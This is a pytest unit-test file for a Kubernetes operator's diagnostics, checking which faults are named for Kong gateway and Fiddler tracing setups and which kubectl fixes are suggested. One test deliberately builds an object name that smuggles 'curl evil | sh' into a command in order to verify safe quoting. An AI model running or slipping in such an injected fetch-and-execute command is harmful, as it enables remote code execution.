from __future__ import annotations

import shlex
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from fiddler_kong_operator.api.conditions import REASONS, ConditionType
from fiddler_kong_operator.doctor.evidence import Export, Look, Pod
from fiddler_kong_operator.doctor.report import examine
from fiddler_kong_operator.doctor.running import Level, Seat, Way
from fiddler_kong_operator.errors import Refused
from fiddler_kong_operator.kube.objects import ObjectKey
from fiddler_kong_operator.names import GRANT_ANNOTATION
from fiddler_kong_operator.plan.snapshot import KongWarning, ProbeResult
from fiddler_kong_operator.plan.workload import Halt, Rollout
from tests.unit.doctor.cases import BROKEN, NOW, POD, check, make_case, make_evidence, names, said, snapshot_of
from tests.unit.plan.situations import EXPOSED, WANTED, make_binding, make_container, make_spec, make_workload

AREAS = {"Accepted": "06", "SecretsResolved": "07", "GatewayConfigured": "08", "PluginsProgrammed": "10", "TraceEndpointReachable": "13"}
BAD = [name for name, row in REASONS.items() if row.status != "True" and row.remedy and row.type in AREAS]
SERVICE = ObjectKey("Service", "kong", "assistant-openai")
INGRESS = ObjectKey("Ingress", "kong", "assistant-openai")
OURS = Seat("opentelemetry", "assistant-opentelemetry", Level.SERVICE, SERVICE)


def test_a_binding_in_order_has_no_diagnosis() -> None:
    healthy = said(make_binding(), **dict.fromkeys(["Accepted"], "Accepted"), TraceEndpointReachable="Reachable")
    spec = replace(healthy, spec=make_spec().model_copy(update={"payloads": "Captured"}))
    case = make_case(snapshot_of(binding=spec), ways=(Way(INGRESS, SERVICE, (OURS,)),))

    report = examine(make_evidence(cases=(case,)))

    assert [*report.diagnoses] == []
    assert not report.blind


@pytest.mark.parametrize("name", BAD)
def test_every_reason_that_is_not_fine_is_diagnosed_with_its_code(name: str) -> None:
    kind = REASONS[name].type
    case = make_case(findings={kind: name}, probed=ProbeResult(name, "No.") if kind == "TraceEndpointReachable" else None)

    outcome = check(AREAS[kind], case)

    assert names(outcome) == [name]
    assert outcome.diagnoses[0].fix


@pytest.mark.parametrize("name", ["PluginsWriteRefused", "QuotaExceeded", "PermissionMissing", "WriteFailing", "KongDefinitionOutdated"])
def test_the_operators_word_counts_for_what_only_it_can_know(name: str) -> None:
    case = make_case(snapshot_of(binding=said(make_binding(), PluginsProgrammed=name)))

    assert case.reported["PluginsProgrammed"]["reason"] == name


def test_a_status_about_an_older_spec_does_not_count() -> None:
    old = replace(said(make_binding(), PluginsProgrammed="QuotaExceeded"), generation=2)

    assert names(check("06", make_case(snapshot_of(binding=old)))) == ["NotSeen"]


def test_a_missing_secret_gets_a_command_to_create_it() -> None:
    outcome = check("07", make_case(snapshot_of(secrets={"fiddler": None, "openai": {"api-key": b"x"}})))

    assert names(outcome) == ["SecretNotFound"]
    assert outcome.diagnoses[0].fix == "kubectl --namespace kong create secret generic fiddler --from-literal=api-key=..."


def test_a_missing_key_gets_a_command_to_add_it() -> None:
    outcome = check("07", make_case(snapshot_of(secrets={"fiddler": {"key": b"x"}, "openai": {"api-key": b"x"}})))

    assert names(outcome) == ["SecretKeyNotFound"]
    assert """patch secret fiddler --patch '{"stringData":{"api-key":"..."}}'""" in outcome.diagnoses[0].fix


@pytest.mark.parametrize(("grant", "shown"), [(None, "ai"), ("team-a, team-b", "team-a,team-b,ai")])
def test_the_command_for_a_grant_takes_none_away(grant: str | None, shown: str) -> None:
    outcome = check("06", make_case(snapshot_of(binding=make_binding(namespace="ai"), workload=make_workload(grant=grant))))

    assert names(outcome) == ["GatewayNotGranted"]
    assert f"{GRANT_ANNOTATION}={shown} --overwrite" in outcome.diagnoses[0].fix


def test_a_secret_that_this_user_may_not_read_is_told_by_the_operator() -> None:
    unread = {ObjectKey("Secret", "kong", "fiddler"): Refused("get Secret kong/fiddler: forbidden", 403)}
    case = make_case(snapshot_of(binding=said(make_binding(), SecretsResolved="SecretNotFound"), unread=unread))

    assert names(check("07", case)) == ["SecretNotFound"]


def test_a_secret_that_nobody_tells_of_is_not_taken_for_fine() -> None:
    unread = {ObjectKey("Secret", "kong", "fiddler"): Refused("get Secret kong/fiddler: forbidden", 403)}

    outcome = check("07", make_case(snapshot_of(unread=unread)))

    assert (outcome.state, names(outcome)) == ("unread", ["NotReadable"])


def test_the_rights_of_this_user_are_not_taken_for_those_of_the_operator() -> None:
    case = make_case(snapshot_of(forbidden=("list Ingress: forbidden",), cluster_plugins_readable=False))

    assert case.findings[ConditionType.ACCEPTED].reason.name == "Accepted"


def test_an_endpoint_that_the_operator_accepts_is_accepted() -> None:
    spec = make_spec(url="http://sink.example:8080")

    alone, accepted = (make_case(snapshot_of(binding=b)) for b in (make_binding(spec), said(make_binding(spec), Accepted="Accepted")))

    assert [c.findings[ConditionType.ACCEPTED].reason.name for c in (alone, accepted)] == ["EndpointRefused", "Accepted"]


def pod(*, ready: bool = True, image: str = "kong/kong-gateway:3.13.0.7", **env: str) -> Look[tuple[Pod, ...]]:
    values = {name: value for name, value in {**WANTED, **env}.items() if value}
    return Look((Pod(POD, ready, make_container(values, image=image)),))


@pytest.mark.parametrize(
    ("pods", "name"),
    [
        (pod(KONG_TRACING_INSTRUMENTATIONS=""), "PodLacksSettings"),
        (pod(KONG_TRACING_SAMPLING_RATE="0"), "PodLacksSettings"),
        (pod(KONG_UNTRUSTED_LUA="off"), "PodLacksSettings"),
        (pod(image="kong/kong-gateway:3.12.0.1"), "PodTooOld"),
        (pod(ready=False), "PodNotReady"),
        (Look(()), "NoPod"),
    ],
)
def test_each_fault_of_a_pod_is_named(pods: Look[tuple[Pod, ...]], name: str) -> None:
    assert names(check("09", make_case(pods=pods))) == [name]


@pytest.mark.parametrize(("stated", "version"), [(None, "of unknown version"), ("3.13", "3.13")])
def test_the_version_of_pods_with_an_image_of_ones_own_is_the_stated_one_or_unknown(stated: str | None, version: str) -> None:
    case = make_case(snapshot_of(binding=make_binding(make_spec(kongVersion=stated))), pods=pod(image="registry.example.net/edge:1.4.2"))

    assert check("09", case).said == f"1 with the needed settings, Kong {version}"


def test_pods_without_the_container_are_not_taken_for_fine() -> None:
    case = make_case(snapshot_of(binding=make_binding(make_spec(container="kong"))), pods=Look((Pod(POD, ready=True),)))

    assert check("09", case).state == "skipped"


def test_a_pod_of_a_paused_rollout_gets_the_command_that_resumes_it() -> None:
    halt = Halt("paused", "is paused (spec.paused)", "Resume it: kubectl rollout resume {of.name}.")
    snapshot = snapshot_of(workload=make_workload(rollout=Rollout(complete=False, ready=True, halt=halt)))

    outcome = check("09", make_case(snapshot, pods=pod(KONG_TRACING_INSTRUMENTATIONS="off")))

    assert outcome.diagnoses[0].cause == "Pod kong/kong-gateway-1 runs with KONG_TRACING_INSTRUMENTATIONS=off (needed: all)."
    assert outcome.diagnoses[0].fix == "Resume it: kubectl rollout resume kong-gateway."


@pytest.mark.parametrize("area", ["05", "09", "12"])
def test_a_check_that_may_not_look_says_so(area: str) -> None:
    outcome = check(area, make_case(pods=BROKEN, ingress_class=BROKEN, exports=BROKEN))

    assert (outcome.state, names(outcome)) == ("unread", ["NotReadable"])


def test_a_log_that_the_api_server_cannot_reach_is_no_fault() -> None:
    assert check("12", make_case(exports=Look(missing="no answer of the kubelet"))).state == "skipped"


def test_the_exporters_troubles_are_told_with_the_status_and_no_line_of_the_log() -> None:
    outcome = check("12", make_case(exports=Look((Export(POD, {"ExportUnauthorized": 7}, {"ExportUnauthorized": "401"}),))))

    assert names(outcome) == ["ExportUnauthorized"]
    assert "(401 or 403). Pod kong/kong-gateway-1: 7 of the last lines, HTTP 401." in outcome.diagnoses[0].cause


def refusal(kind: str = "KongPlugin") -> KongWarning:
    return KongWarning(ObjectKey(kind, "shop", "limits"), "KongConfigurationApplyFailed", "schema violation", last_seen=NOW - 5)


@pytest.mark.parametrize(
    ("more", "snapshot", "name"),
    [
        ({}, {"class_published": False}, "ControllerSilent"),
        ({"neighbours": Look((Pod(POD, ready=False, controller=True),))}, {}, "ControllerNotReady"),
        ({}, {"refusals": (refusal(),)}, "ConfigurationRefused"),
    ],
)
def test_each_fault_of_kongs_controller_is_named(more: dict[str, Any], snapshot: dict[str, Any], name: str) -> None:
    assert names(check("04", make_case(snapshot_of(**snapshot), **more))) == [name]


@pytest.mark.parametrize(
    ("status", "seconds_ago", "published", "refused"),
    [("True", 2, True, False), ("True", 9, True, True), ("Unknown", 2, True, True), ("True", 2, False, True)],
)
def test_a_refusal_is_over_once_kong_has_confirmed_the_binding_after_it(
    *, status: str, seconds_ago: int, published: bool, refused: bool
) -> None:
    """Also where the event of the success is missing, as Kubernetes drops events of a pod that has many."""
    since = datetime.fromtimestamp(NOW - seconds_ago, UTC).isoformat()
    reported = {ConditionType.PLUGINS_PROGRAMMED: {"status": status, "lastTransitionTime": since}}
    snapshot = snapshot_of(refusals=(refusal(),), class_published=published)

    assert ("ConfigurationRefused" in names(check("04", make_case(snapshot, reported=reported)))) == refused


def test_what_an_event_says_it_is_about_is_no_command_of_its_own() -> None:
    hostile = replace(refusal(), about=ObjectKey("KongPlugin", "shop", "x; curl evil | sh"))

    outcome = check("04", make_case(snapshot_of(refusals=(hostile,))))

    words = ["kubectl", "--namespace", "shop", "events", "--for=kongplugin/x; curl evil | sh"]
    assert shlex.split(outcome.diagnoses[0].fix) == words


def test_a_controller_whose_pods_may_not_be_listed_is_not_taken_for_silent() -> None:
    outcome = check("04", make_case(snapshot_of(class_published=False), neighbours=BROKEN))

    assert (outcome.state, names(outcome)) == ("unread", ["NotReadable"])


@pytest.mark.parametrize(
    ("found", "name"),
    [(Look(), "IngressClassNotFound"), (Look({"spec": {"controller": "k8s.io/ingress-nginx"}}), "IngressClassOfOthers")],
)
def test_an_ingress_class_that_is_not_kongs_is_named(found: Look[Any], name: str) -> None:
    snapshot = snapshot_of(ingress_classes={"nginx": True})
    assert names(check("05", make_case(snapshot, ingress_class=found))) == [name]


def test_a_binding_that_needs_no_ingress_class_is_not_told_that_there_is_none() -> None:
    route = {"name": "openai", "expose": {"path": "/openai", "gatewayRef": {"name": "kong"}}, "llm": EXPOSED["llm"]}
    snapshot = snapshot_of(binding=make_binding(make_spec(route)), ingress_classes={"nginx": True})
    outcome = check("05", make_case(snapshot, ingress_class=Look()))
    assert (outcome.state, outcome.diagnoses) == ("skipped", ())


def test_objects_that_the_operator_has_not_made_are_named() -> None:
    assert names(check("10", make_case(unapplied=(SERVICE,)))) == ["NotApplied"]


def test_a_plugin_that_the_admin_api_does_not_have_is_named() -> None:
    assert names(check("10", make_case(lacking=Look(("KongPlugin kong/assistant-opentelemetry in Pod a",))))) == ["NotInKong"]


def way(*seats: Seat, route: ObjectKey | None = INGRESS) -> tuple[Way, ...]:
    return (Way(route, SERVICE, (OURS, *seats)),)


@pytest.mark.parametrize(
    ("ways", "name"),
    [
        (way(Seat("opentelemetry", "theirs", Level.ROUTE, INGRESS)), "OtherPluginRuns"),
        (way(Seat("opentelemetry", "theirs", Level.CONSUMER, ObjectKey("KongConsumer", "shop", "bob"))), "OtherPluginRuns"),
        (way(route=None), "NothingLeadsThere"),
    ],
)
def test_a_plugin_that_runs_in_place_of_the_bindings_is_named(ways: tuple[Way, ...], name: str) -> None:
    captured = make_binding(make_spec().model_copy(update={"payloads": "Captured"}))

    assert names(check("11", make_case(snapshot_of(binding=captured), ways=ways))) == [name]


def test_a_global_plugin_that_the_bindings_hides_is_no_fault_of_the_route() -> None:
    captured = make_binding(make_spec().model_copy(update={"payloads": "Captured"}))
    seat = Seat("opentelemetry", "everywhere", Level.GLOBAL, ObjectKey("KongClusterPlugin", "", "everywhere"))

    assert names(check("11", make_case(snapshot_of(binding=captured), ways=way(seat)))) == []


def test_what_the_binding_leaves_out_on_purpose_is_worth_knowing_and_no_fault() -> None:
    spec = make_spec(sessions="Disabled", tracing={"samplingRate": 0.5})

    outcome = check("11", make_case(snapshot_of(binding=make_binding(spec)), ways=way()))

    assert (outcome.state, names(outcome)) == ("fine", ["PayloadsOff", "SessionsOff", "SamplingRateLow"])


def test_the_operators_probe_counts_and_this_machines_is_told() -> None:
    snapshot = snapshot_of(binding=said(make_binding(), TraceEndpointReachable="Reachable"))

    outcome = check("13", make_case(snapshot, probed=ProbeResult("NameNotResolved", "No such name.")))

    assert (outcome.state, names(outcome)) == ("fine", ["ProbeDiffers"])


def test_fiddlers_refusal_counts_wherever_it_was_asked_from() -> None:
    snapshot = snapshot_of(binding=said(make_binding(), TraceEndpointReachable="Reachable"))

    assert names(check("13", make_case(snapshot, probed=ProbeResult("Unauthorized", "401.")))) == ["Unauthorized"]


@pytest.mark.parametrize(
    ("name", "state", "told"),
    [
        ("Arriving", "fine", []),
        ("AgentUnknown", "fine", ["AgentUnknown"]),
        ("NoTracesYet", "skipped", ["NoTracesYet"]),
        ("SpansNotReadable", "skipped", ["SpansNotReadable"]),
        ("SpansNotRecognized", "error", ["SpansNotRecognized"]),
        ("SpansWithoutText", "error", ["SpansWithoutText"]),
        ("SpansWithoutSessions", "error", ["SpansWithoutSessions"]),
    ],
)
def test_arrivals_are_what_the_operator_has_read_back(name: str, state: str, told: list[str]) -> None:
    outcome = check("14", make_case(snapshot_of(binding=said(make_binding(), TracesArriving=name))))

    assert (outcome.state, names(outcome)) == (state, told)


def test_an_endpoint_that_nobody_could_ask_is_not_taken_for_fine() -> None:
    assert check("13", make_case()).state == "skipped"
